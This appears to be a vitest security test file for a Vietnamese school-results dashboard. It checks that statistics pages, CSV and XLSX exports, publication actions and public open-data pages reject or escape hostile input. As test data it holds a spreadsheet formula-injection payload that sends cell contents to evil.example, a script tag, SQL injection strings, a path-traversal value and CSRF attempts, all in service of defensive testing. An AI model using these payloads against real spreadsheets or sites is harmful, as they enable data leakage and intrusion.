/**
 * The attack corpus of the results issue (10): what an outsider or a careless insider tries
 * against the dashboard, its exports, publication and the public pages and open data. Run on the
 * demo (its previous year is recognised and published by the Sở S99) plus a second province.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { count, eq } from "drizzle-orm";
import { useTestDatabase } from "../helpers/db";
import { browserAs, run } from "../helpers/http";
import { getDb } from "~/server/db/client.server";
import { auditLog, publications, users } from "~/server/db/schema.server";
import { seedDemoData } from "~/server/demo/seed.server";
import { createUnit, createUser } from "~/server/services/org.server";
import { revokeCertificate } from "~/server/services/recognition.server";
import * as stats from "~/routes/thong-ke._index";
import * as xlsx from "~/routes/thong-ke[.]xlsx";
import * as csv from "~/routes/thong-ke[.]csv";
import * as report from "~/routes/thong-ke.bao-cao[.]pdf";
import * as rankings from "~/routes/xep-hang";
import * as manage from "~/routes/cong-bo.quan-ly";
import * as publicPage from "~/routes/cong-bo.$unitCode.$schoolYear";
import * as publicJson from "~/routes/cong-bo.$unitCode.$schoolYear.json";
import * as publicCsv from "~/routes/cong-bo.$unitCode.$schoolYear.csv";
import * as schoolPage from "~/routes/cong-bo.truong.$schoolCode";

useTestDatabase("attack-results");
const db = () => getDb();
let PREV = "";
let s99 = 0;
const HOSTILE = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")<script>alert(1)</script>`;
let hostileCode = "";

beforeAll(async () => {
  await seedDemoData(db());
  PREV = (db().$client.prepare("SELECT school_year AS y FROM cycles WHERE status = 'closed'").get() as { y: string }).y;
  s99 = (db().$client.prepare("SELECT id FROM units WHERE code = 'S99'").get() as { id: number }).id;
  // A school whose name an admin typed as a formula and a script (stored as typed).
  const s = db().$client.prepare("SELECT id, code FROM schools ORDER BY id LIMIT 1 OFFSET 3").get() as { id: number; code: string };
  hostileCode = s.code;
  db().$client.prepare("UPDATE schools SET name = ? WHERE id = ?").run(HOSTILE, s.id);
  // Another province with its own office admin.
  const other = createUnit({ kind: "province", code: "S98", name: "Sở Tỉnh Khác", parentId: null }, null);
  await createUser({ username: "khac.admin", displayName: "Quản trị khác", password: "mat-khau-kiem-thu", roles: ["office_admin", "office_reviewer"], unitId: other }, null);
});

const get = async (mod: { loader?: unknown }, who: string | undefined, url: string, params: Record<string, string> = {}) =>
  run(mod.loader as never, (await browserAs(who)).get(url), params);

describe("the office's results pages", () => {
  it("refuse hostile query values with a 400, never a 500", async () => {
    const bad = ["nam=2025-2027", "nam=%3Cscript%3E", "nam=2025-2026%27%20OR%201%3D1", "donVi=1e3", "donVi=-1", "donVi=0x10", "donVi=99999999999999999999", "coSo=evil", "loai=X%27%3B--", "page=0", "page=abc", "page=1.5"];
    for (const mod of [stats, xlsx, csv, report, rankings])
      for (const q of bad) {
        const res = await get(mod, "so.demo", `/thong-ke?${q}`);
        expect(res.status, `${q}`).toBe(400);
        expect(((await res.json()) as { error: string }).error).toMatch(/[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]|không hợp lệ/i);
      }
  });

  it("a Phòng never opens the Sở above it, another province never opens the demo's, schools never open them", async () => {
    for (const mod of [stats, xlsx, csv, report, rankings, manage]) {
      expect((await get(mod, "phong.demo", `/thong-ke?donVi=${s99}`)).status).toBe(403);
      expect((await get(mod, "khac.admin", `/thong-ke?donVi=${s99}`)).status).toBe(403);
      expect((await get(mod, "truong.th1", "/thong-ke")).status).toBe(403);
      expect((await get(mod, undefined, "/thong-ke")).status).toBe(302);
    }
  });

  it("the exports escape a name typed as a formula", async () => {
    const res = await get(csv, "so.demo", `/thong-ke.csv?nam=${PREV}`);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe("publication", () => {
  it("another province's admin, a reviewer-only Phòng user and a missing CSRF token publish nothing", async () => {
    const before = { audit: db().select({ n: count() }).from(auditLog).get()!.n, pubs: db().select().from(publications).all() };
    const cur = (db().$client.prepare("SELECT school_year AS y FROM cycles WHERE status = 'open'").get() as { y: string }).y;
    for (const [who, fields, csrf] of [
      ["khac.admin", { intent: "publish", unitId: String(s99), schoolYear: cur }, undefined],
      ["khac.admin", { intent: "withdraw", unitId: String(s99), schoolYear: PREV }, undefined],
      ["phong.demo", { intent: "withdraw", unitId: String(s99), schoolYear: PREV }, undefined],
      ["truong.th1", { intent: "publish", unitId: String(s99), schoolYear: cur }, undefined],
      ["so.demo", { intent: "withdraw", unitId: String(s99), schoolYear: PREV }, null],
    ] as const) {
      const b = await browserAs(who);
      const res = await run(manage.action as never, b.post("/cong-bo/quan-ly", fields, csrf === null ? { csrf: null } : undefined));
      expect(res.status, `${who} ${fields.intent}`).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
    }
    expect(db().select({ n: count() }).from(auditLog).get()!.n).toBe(before.audit);
    expect(db().select().from(publications).all()).toEqual(before.pubs);
  });
});

describe("the public pages and open data", () => {
  const params = () => ({ unitCode: "S99", schoolYear: PREV });

  it("escape a hostile school name in the page, and in the CSV as a formula", async () => {
    const page = await get(publicPage, undefined, `/cong-bo/S99/${PREV}`, params());
    expect(page.status).toBe(200);
    const body = await page.text();
    // Loader data is JSON: the name is a string (rendered as text by React, embedded with "<" escaped by Remix).
    expect(body).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    const c = await get(publicCsv, undefined, `/cong-bo/S99/${PREV}/csv`, params());
    const bytes = Buffer.from(await c.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text).toContain(`"'=HYPERLINK(`);
    const j = (await (await get(publicJson, undefined, `/cong-bo/S99/${PREV}/json`, params())).json()) as { schools: { code: string; name: string }[] };
    expect(j.schools.find((s) => s.code === hostileCode)!.name).toBe(HOSTILE);
  });

  it("search values are text, not patterns or SQL; paging out of range is empty, not an error", async () => {
    for (const q of ["%", "_", "' OR 1=1 --", "\\", "*", "%25"]) {
      const res = await get(publicPage, undefined, `/cong-bo/S99/${PREV}?q=${encodeURIComponent(q)}`, params());
      expect(res.status, q).toBe(200);
      const data = (await res.json()) as { page?: { total?: number }; list?: { total?: number } } & Record<string, unknown>;
      const text = JSON.stringify(data);
      // No school matches these texts.
      expect(text, q).not.toContain("Trường Tiểu học Nguyễn Du");
    }
    // A page beyond the last is the last page.
    const far = await get(publicPage, undefined, `/cong-bo/S99/${PREV}?page=999999`, params());
    expect(far.status).toBe(200);
    const d = (await far.json()) as { page: number; pageCount: number };
    expect(d.page).toBe(d.pageCount);
  });

  it("unknown, malformed and unpublished names are a 404, never a crash or another unit's data", async () => {
    const cur = (db().$client.prepare("SELECT school_year AS y FROM cycles WHERE status = 'open'").get() as { y: string }).y;
    for (const [unitCode, schoolYear] of [["S98", PREV], ["..%2F..%2Fetc", PREV], ["S99", "2025-2027"], ["S99", cur], ["S99' OR '1'='1", PREV], ["S99-P01", PREV]]) {
      for (const mod of [publicPage, publicJson, publicCsv]) {
        const res = await get(mod, undefined, `/cong-bo/x/y`, { unitCode, schoolYear });
        expect(res.status, `${unitCode} ${schoolYear}`).toBe(404);
        const body = await res.text();
        expect(body).not.toContain("Trường Tiểu học Nguyễn Du");
      }
    }
    expect((await get(schoolPage, undefined, "/cong-bo/truong/x", { schoolCode: "' OR 1=1 --" })).status).toBe(404);
  });

  it("a revoked certificate takes its school off the open data at once, and the ETag changes", async () => {
    const first = await get(publicJson, undefined, `/cong-bo/S99/${PREV}/json`, params());
    const etag = first.headers.get("ETag")!;
    const before = (await first.json()) as { schools: { code: string; certificate: { number: string } | null }[] };
    const victim = before.schools.find((s) => s.code !== hostileCode)!;
    const cert = db().$client.prepare("SELECT c.id AS id, c.issued_by AS by FROM certificates c JOIN schools s ON s.id = c.school_id WHERE s.code = ? AND c.school_year = ? AND c.revoked_at IS NULL").get(victim.code, PREV) as { id: number; by: number };
    const so = db().select({ id: users.id }).from(users).where(eq(users.username, "so.demo")).get()!.id;
    const phong = db().select({ id: users.id }).from(users).where(eq(users.username, "phong.demo")).get()!.id;
    let r = revokeCertificate(cert.id, "Kiểm tra lại phát hiện sai lệch minh chứng.", so);
    if (!r.ok) r = revokeCertificate(cert.id, "Kiểm tra lại phát hiện sai lệch minh chứng.", phong);
    expect(r.ok).toBe(true);
    const again = await run(publicJson.loader as never, new Request(`http://localhost/cong-bo/S99/${PREV}/json`, { headers: { "If-None-Match": etag } }), params());
    expect(again.status).toBe(200);
    expect(again.headers.get("ETag")).not.toBe(etag);
    const after = (await again.json()) as { schools: { code: string }[]; summary: { schools: number } };
    expect(after.schools.map((s) => s.code)).not.toContain(victim.code);
    expect(after.summary.schools).toBe(before.schools.length - 1);
  });
});
